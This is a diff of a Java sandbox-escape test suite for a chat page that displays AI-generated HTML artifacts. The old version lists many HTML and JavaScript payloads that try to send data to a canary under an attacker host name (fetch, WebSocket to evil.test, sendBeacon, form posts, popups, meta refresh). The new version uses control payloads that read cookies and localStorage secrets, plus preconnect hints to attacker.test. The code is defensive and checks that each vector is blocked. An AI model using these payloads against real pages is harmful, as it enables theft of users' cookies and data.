@@ -3,130 +3,202 @@ package dev.vitrine.browser;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import com.microsoft.playwright.Page;
-import java.nio.charset.StandardCharsets;
-import java.security.MessageDigest;
-import java.security.NoSuchAlgorithmException;
-import java.util.Base64;
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.vitrine.browser.EscapeVector.Detector;
+import dev.vitrine.browser.EscapeVector.Expected;
+import dev.vitrine.browser.VectorResult.Verdict;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.function.Function;
+import java.util.function.UnaryOperator;
+import java.util.stream.Collectors;
 import java.util.stream.Stream;
-import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 
 /**
- * Hostile HTML artifacts shown in the real chat page try to send data to a canary server;
- * the canary must see nothing. Each payload logs {@code probe:ran} once it has made its
- * attempt, so a vector cannot pass by failing to run. {@code C} in a payload is the canary
- * under an attacker host name; {@code L} is the canary by loopback address.
+ * The escape gate. Every vector of the catalogue ({@code src/test/resources/dev/vitrine/browser/vectors})
+ * runs once, in Chromium, against this class's own Vitrine, through the same {@link EscapeLab}
+ * that {@code ./vitrine escape-lab} drives: a vector catalogued as {@code blocked} must be
+ * blocked, and a known browser limit must still be detected, so that the catalogue is revisited
+ * the day Chromium closes it. Controls show that each detector fires where nothing stops it, and
+ * that the chat page's {@code frame-src} is what keeps a frame from navigating itself out. The
+ * run's report is written to {@code target/escape-lab-gate/}.
  */
 class EscapeVectorsTest {
-    @RegisterExtension
-    static final BrowserSession session = new BrowserSession();
+    private static final List<EscapeVector> CATALOGUE = VectorCatalogue.builtIn();
+    private static final Path REPORT = Path.of("target", "escape-lab-gate");
 
-    private static final String RAN = "<script>console.log('probe:ran')</script>";
-    private static final String INLINE_SCRIPT = "window.inlineProbe = 1;";
-    private static final long SETTLE_MILLIS = 1_200;
+    private static VitrineUnderTest vitrine;
+    private static EscapeLab lab;
+    private static Map<String, VectorResult> results;
 
-    static Stream<Arguments> vectors() {
-        return Stream.of(
-                vector("fetch", "<script>fetch('C/fetch').catch(() => {}); fetch('L/fetch-loopback', {mode: 'no-cors'}).catch(() => {});</script>" + RAN),
-                vector("XMLHttpRequest", "<script>try { const x = new XMLHttpRequest(); x.open('GET', 'C/xhr'); x.send(); } catch (e) {}</script>" + RAN),
-                vector("WebSocket", "<script>try { new WebSocket('ws://evil.test:PORT/ws'); } catch (e) {}</script>" + RAN),
-                vector("EventSource", "<script>try { new EventSource('C/sse'); } catch (e) {}</script>" + RAN),
-                vector("sendBeacon", "<script>try { navigator.sendBeacon('C/beacon', 'secret'); } catch (e) {}</script>" + RAN),
-                vector("img element", "<img src='C/img' alt=''><script>new Image().src = 'L/img-js';</script>" + RAN),
-                vector("CSS url() in style attribute and sheet", "<div style=\"background:url('C/css-attr')\">x</div>"
-                        + "<style>body { background: url('C/css-sheet'); }</style>" + RAN),
-                vector("CSS @import", "<style>@import url('C/import.css');</style>" + RAN),
-                vector("stylesheet link", "<link rel='stylesheet' href='C/sheet.css'>" + RAN),
-                vector("web font", "<style>@font-face { font-family: x; src: url('C/font.woff2'); } p { font-family: x; }</style><p>text</p>" + RAN),
-                vector("media elements", "<video src='C/video.mp4' autoplay muted></video><audio src='C/audio.mp3' autoplay></audio>" + RAN),
-                vector("script src", "<script src='C/script.js'></script>" + RAN),
-                vector("module script src", "<script type='module' src='C/module.js'></script><script type='module'>console.log('probe:ran')</script>"),
-                vector("dynamic import()", "<script>import('C/import.js').catch(() => {}).finally(() => console.log('probe:ran'));</script>"),
-                vector("script given document.currentScript.nonce", "<script>const s = document.createElement('script'); s.nonce = document.currentScript.nonce;"
-                        + " s.src = 'C/nonce.js'; document.head.append(s);</script>" + RAN),
-                vector("script with integrity of an own inline script", "<script>" + INLINE_SCRIPT + "</script>"
-                        + "<script src='C/sri.js' integrity='sha256-" + sha256(INLINE_SCRIPT) + "'></script>" + RAN),
-                vector("document.write of an image", "<script>document.write(\"<img src='C/document-write'>\");</script>" + RAN),
-                vector("form submit", "<form id='f' action='C/form' method='post'><input name='secret' value='s3cret'></form>"
-                        + "<script>console.log('probe:ran'); document.getElementById('f').submit();</script>"),
-                vector("form requestSubmit with a button", "<form id='f' action='C/form-button'><button id='b'>go</button></form>"
-                        + "<script>console.log('probe:ran'); document.getElementById('f').requestSubmit(document.getElementById('b'));</script>"),
-                vector("base element", "<base href='C/base/'><img src='relative.png'>" + RAN),
-                vector("top navigation", "<script>console.log('probe:ran'); try { top.location = 'C/top'; } catch (e) {}</script>"),
-                vector("window.open popup", "<script>console.log('probe:ran'); try { window.open('C/popup'); } catch (e) {}</script>"),
-                vector("link with target _blank", "<a id='a' href='C/blank' target='_blank'>x</a><script>console.log('probe:ran'); document.getElementById('a').click();</script>"),
-                vector("self-navigation with location", "<script>console.log('probe:ran'); location.href = 'C/self';</script>"),
-                vector("self-navigation with a link click", "<a id='a' href='C/link'>x</a><script>console.log('probe:ran'); document.getElementById('a').click();</script>"),
-                vector("meta refresh in markup", "<meta http-equiv='refresh' content='0;url=C/refresh'>" + RAN),
-                vector("meta refresh inserted by script", "<script>console.log('probe:ran'); const m = document.createElement('meta');"
-                        + " m.httpEquiv = 'refresh'; m.content = '0;url=C/refresh-dom'; document.head.append(m);</script>"),
-                vector("nested iframe", "<iframe src='C/iframe'></iframe><iframe srcdoc=\"<img src='C/srcdoc'>\"></iframe>" + RAN),
-                vector("object and embed", "<object data='C/object'></object><embed src='C/embed'>" + RAN),
-                vector("dedicated worker", "<script>try { new Worker('C/worker.js'); } catch (e) {}</script>" + RAN),
-                vector("prefetch and prerender hints", "<link rel='prefetch' href='C/prefetch'><link rel='prerender' href='C/prerender'>" + RAN),
-                vector("SVG image in HTML", "<svg width='10' height='10'><image href='C/svg-image' width='10' height='10'/></svg>" + RAN));
+    @BeforeAll
+    static void runTheCatalogue() {
+        vitrine = VitrineUnderTest.start(UnaryOperator.identity());
+        lab = EscapeLab.open(vitrine, EscapeLab.Settings.quick());
+        List<VectorResult> run = lab.runAll(CATALOGUE, result -> { });
+        results = run.stream().collect(Collectors.toMap(r -> r.vector().id(), Function.identity()));
+        EscapeReport.write(new EscapeReport.Run("in-process Vitrine at " + vitrine.appOrigin() + " (EscapeVectorsTest)",
+                lab.browserVersion(), Instant.now(), run), REPORT);
     }
 
-    @BeforeEach
-    void resetCanary() {
-        session.canary().reset();
+    @AfterAll
+    static void stop() {
+        if (lab != null) {
+            lab.close();
+        }
+        if (vitrine != null) {
+            vitrine.close();
+        }
+    }
+
+    static Stream<EscapeVector> blockedVectors() {
+        return CATALOGUE.stream().filter(v -> v.expected() == Expected.BLOCKED);
+    }
+
+    static Stream<EscapeVector> knownLimits() {
+        return CATALOGUE.stream().filter(v -> v.expected() == Expected.KNOWN_LIMIT);
     }
 
     @ParameterizedTest(name = "{0}")
-    @MethodSource("vectors")
-    void artifactCannotReachTheCanary(String name, String payload) {
-        String html = payload.replace("'C/", "'" + session.canary().url() + "/")
-                .replace("\"C/", "\"" + session.canary().url() + "/")
-                .replace("'L/", "'" + session.canary().loopbackUrl() + "/")
-                .replace("PORT", String.valueOf(session.canary().port()));
-        String id = session.client().create("html", name, html).get("id").asText();
+    @MethodSource("blockedVectors")
+    void artifactCannotEscapeThrough(EscapeVector vector) {
+        VectorResult result = results.get(vector.id());
+        assertEquals(Verdict.BLOCKED, result.verdict(), () -> explain(result));
+    }
 
-        Page page = session.newPage();
-        page.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(m -> m.text().equals("probe:ran")),
-                () -> page.navigate(session.chatUrl(id)));
-        page.waitForTimeout(SETTLE_MILLIS);
-
-        assertEquals(List.of(), session.canary().hits(), "the canary was reached by: " + name);
-        assertEquals(1, page.context().pages().size(), "a popup opened for: " + name);
-        page.context().close();
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("knownLimits")
+    void knownBrowserLimitIsStillDetected(EscapeVector vector) {
+        VectorResult result = results.get(vector.id());
+        assertEquals(Verdict.KNOWN_LIMIT, result.verdict(), () -> "a known browser limit was not detected: if the browser closed it,"
+                + " mark the vector 'blocked' in the catalogue and SECURITY.md; " + explain(result));
     }
 
     @Test
-    void controlTheBrowserReachesTheCanaryByItsAttackerName() {
-        Page page = session.newPage();
-        page.navigate(session.canary().url() + "/control");
-        assertEquals(List.of("GET /control"), session.canary().hits());
-        page.context().close();
+    void theCatalogueCoversEveryKindOfEscapeOfTheThreatModel() {
+        Set<String> categories = CATALOGUE.stream().map(EscapeVector::category).collect(Collectors.toCollection(TreeSet::new));
+        // DESIGN.md's threat model: the chat page (DOM, cookies, storage, tokens), every egress
+        // (network, DNS, navigation, popups, downloads), other artifacts' and viewers' data, and
+        // an artifact opened directly; plus every artifact type.
+        assertTrue(categories.containsAll(Set.of("parent", "storage", "postmessage", "network", "resource", "css", "hints",
+                "navigation", "popup", "form", "download", "webrtc", "worker", "frames", "permission", "direct",
+                "svg", "markdown", "mermaid", "react")), "categories: " + categories);
+        assertTrue(CATALOGUE.size() >= 40, "the catalogue holds " + CATALOGUE.size() + " vectors");
+        assertEquals(Set.of("html", "svg", "markdown", "react", "mermaid"),
+                CATALOGUE.stream().map(EscapeVector::type).collect(Collectors.toSet()));
     }
 
+    /** A refused artifact proves nothing about the browser: only the vectors meant to be refused may be. */
     @Test
-    void controlTheSamePayloadsLeakFromAPageWithoutVitrine() {
-        Page page = session.newPage();
-        page.navigate(session.canary().loopbackUrl() + "/unprotected-page");
-        page.setContent("<img src='" + session.canary().url() + "/img'>"
-                + "<script>fetch('" + session.canary().url() + "/fetch', {mode: 'no-cors'});</script>"
-                + "<style>body { background: url('" + session.canary().url() + "/css-sheet'); }</style>");
-        page.waitForTimeout(SETTLE_MILLIS);
-        List<String> hits = session.canary().hits();
-        assertTrue(hits.containsAll(List.of("GET /img", "GET /fetch", "GET /css-sheet")), "hits were " + hits);
-        page.context().close();
+    void onlyTheVectorsMeantToBeRefusedByTheApiAreRefused() {
+        // Opened as a page, a frame URL is refused by the sandbox origin (403), not by the API.
+        results.values().stream().filter(r -> r.vector().id().startsWith("direct/") && r.evidence().refusal() != null)
+                .forEach(r -> assertTrue(r.evidence().refusal().contains("to frames only"), r.evidence().refusal()));
+        Set<String> refused = results.values().stream()
+                .filter(r -> r.evidence().refusal() != null && !r.vector().id().startsWith("direct/"))
+                .map(r -> r.vector().id()).collect(Collectors.toSet());
+        assertEquals(Set.of("react/import-from-url"), refused, () -> results.values().stream()
+                .filter(r -> r.evidence().refusal() != null).map(r -> r.vector().id() + ": " + r.evidence().refusal())
+                .collect(Collectors.joining("\n")));
+        assertTrue(results.get("react/import-from-url").evidence().refusal().contains("unknown_import"),
+                results.get("react/import-from-url").evidence().refusal());
     }
 
-    private static Arguments vector(String name, String payload) {
-        return Arguments.of(name, payload);
+    /** Payloads in a page with no policy and no sandbox, each meant to make one detector fire. */
+    static Stream<Arguments> controls() {
+        return Stream.of(
+                Arguments.of("canary-http", "<img src='{{canary.url}}/control-img'><style>body { background: url('{{canary.url}}/control-css'); }</style>"
+                        + "<script>fetch('{{canary.url}}/control-fetch', {mode: 'no-cors'}).catch(() => {}); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.CANARY_HTTP)),
+                Arguments.of("canary-tcp and dns", "<link rel='preconnect' href='http://{{dns.host}}:{{canary.tcp}}/'><script>console.log('probe:ran');</script>",
+                        true, Set.of(Detector.CANARY_TCP, Detector.DNS)),
+                Arguments.of("canary-udp", "<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:{{canary.udp}}'}]});"
+                        + " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); console.log('probe:ran');</script>",
+                        true, Set.of(Detector.CANARY_UDP)),
+                Arguments.of("console", "<script>localStorage.setItem('control', 'stored'); console.log('leak:' + localStorage.getItem('control')); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.CONSOLE)),
+                Arguments.of("secret", "<script>console.log('probe:' + localStorage.getItem('lab-secret') + ' ' + document.cookie); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.SECRET)),
+                Arguments.of("chat-dom", "<script>document.body.insertAdjacentHTML('beforeend', \"<b id='{{marker}}'>x</b>\"); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.CHAT_DOM)),
+                Arguments.of("popup", "<script>document.addEventListener('click', () => window.open('{{canary.url}}/control-popup')); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.POPUP)),
+                Arguments.of("download", "<a id='a' download='control.txt' href='data:text/plain,control'>x</a>"
+                        + "<script>document.addEventListener('click', () => document.getElementById('a').click()); console.log('probe:ran');</script>",
+                        false, Set.of(Detector.DOWNLOAD)),
+                Arguments.of("top-navigation", "<script>console.log('probe:ran'); setTimeout(() => { location.href = '{{canary.url}}/control-navigation'; }, 50);</script>",
+                        false, Set.of(Detector.TOP_NAVIGATION)));
     }
 
-    static String sha256(String text) {
-        try {
-            return Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
-        } catch (NoSuchAlgorithmException e) {
-            throw new IllegalStateException(e);
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("controls")
+    void controlTheDetectorFiresOnAPageWithoutVitrine(String detector, String payload, boolean browserOfItsOwn, Set<Detector> expected) {
+        Set<Detector> fired = lab.control(payload, browserOfItsOwn);
+        assertTrue(fired.containsAll(expected), "expected " + expected + " to fire; fired: " + fired);
+    }
+
+    /**
+     * A frame navigating itself is stopped only by the embedding page's {@code frame-src}
+     * (DESIGN.md): these vectors, blocked in the chat page, get out of the same frame embedded the
+     * chat page's way in a page that sends no policy.
+     */
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("selfNavigations")
+    void withoutTheChatPagesFrameSrcTheFrameNavigatesItselfOut(String id) {
+        VectorResult result = lab.runWithoutFrameSrc(vector(id));
+        assertEquals(Verdict.LEAKED, result.verdict(), () -> explain(result));
+        assertEquals(Verdict.BLOCKED, results.get(id).verdict(), "in the chat page, " + id + " is blocked");
+    }
+
+    static Stream<String> selfNavigations() {
+        // A download link navigates the frame when downloads are not allowed.
+        return Stream.of("navigation/self-location", "navigation/self-link-click", "navigation/navigation-api",
+                "navigation/meta-refresh-by-script", "download/anchor-download");
+    }
+
+    /**
+     * The part of the resource-hint limit Vitrine closes: hints written in markup are removed
+     * before the document is served (and the API says so), so only hints made by script remain.
+     */
+    @Test
+    void normalisationRemovesResourceHintsFromMarkupAndSaysSo() {
+        JsonNode created = vitrine.client().create("html", "hints in markup", "<link rel='preconnect' href='http://attacker.test/'>"
+                + "<link rel='dns-prefetch' href='//attacker.test'><p>x</p>");
+        List<String> removed = new ArrayList<>();
+        created.at("/latest/removed").forEach(removal -> removed.add(removal.get("what").asText()));
+        assertTrue(removed.stream().anyMatch(what -> what.contains("preconnect")), "removed: " + removed);
+        assertTrue(removed.stream().anyMatch(what -> what.contains("dns-prefetch")), "removed: " + removed);
+        assertEquals(Verdict.BLOCKED, results.get("hints/preconnect-markup").verdict());
+        assertEquals(Verdict.BLOCKED, results.get("hints/dns-prefetch-markup").verdict());
+    }
+
+    private static EscapeVector vector(String id) {
+        return CATALOGUE.stream().filter(v -> v.id().equals(id)).findFirst()
+                .orElseThrow(() -> new AssertionError("no vector " + id + " in the catalogue"));
+    }
+
+    private static String explain(VectorResult result) {
+        StringBuilder text = new StringBuilder(result.vector().id()).append(" ended ").append(result.verdict().label);
+        result.findings().forEach(f -> text.append("\n  got out: ").append(f.detector().wireName).append(": ").append(f.detail()));
+        if (result.problem() != null) {
+            text.append("\n  proved nothing: ").append(result.problem());
         }
+        if (result.evidence().refusal() != null) {
+            text.append("\n  refused: ").append(result.evidence().refusal());
+        }
+        result.evidence().console().stream().limit(12).forEach(line -> text.append("\n  console: ").append(line));
+        text.append("\n  report: ").append(REPORT.resolve("report.html").toAbsolutePath());
+        return text.toString();
     }
 }
